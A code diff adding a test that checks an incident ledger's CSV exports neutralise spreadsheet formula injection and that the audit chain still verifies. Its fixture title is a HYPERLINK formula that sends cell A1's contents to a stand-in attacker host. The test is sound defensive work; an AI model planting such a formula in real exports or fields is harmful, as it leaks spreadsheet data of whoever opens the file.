@@ -208,4 +208,27 @@ describe('the incident ledger on the Chrysler case', () => {
       expect(verifyAuditChain(entries)).toMatchObject({ ok: true, checked: entries.length });
     }
   });
+
+  test('a title that a spreadsheet would run as a formula is exported as text, and the audit export still verifies', async () => {
+    const s = services(t.db);
+    const title = '=HYPERLINK("http://evil.example/?"&A1,"open the evidence")';
+    const { id } = await s.ledger.reportManual(
+      workspaceId,
+      { kind: 'other', severity: 'low', title, occurredAt: by(50).at, accountId },
+      { actor: '@reporter', at: by(50).at },
+    );
+    const period = {
+      workspace: { id: workspaceId, slug: CHRYSLER.workspace },
+      from: new Date(0),
+      to: new Date('2100-01-01T00:00:00Z'),
+    };
+    const text = await s.exports.incidentsExport(period, 'csv');
+    const row = (parse(text, { columns: true }) as Record<string, string>[]).find((r) => r.id === id)!;
+    expect(row.title).toBe(`'${title}`);
+    const audit = await s.exports.auditExport(period, 'csv');
+    expect(audit).toContain("'@reporter");
+    const { entries } = readAuditExport(audit, 'csv');
+    expect(entries.find((e) => e.entityId === id)?.actor).toBe('@reporter');
+    expect(verifyAuditChain(entries)).toMatchObject({ ok: true, checked: entries.length });
+  });
 });
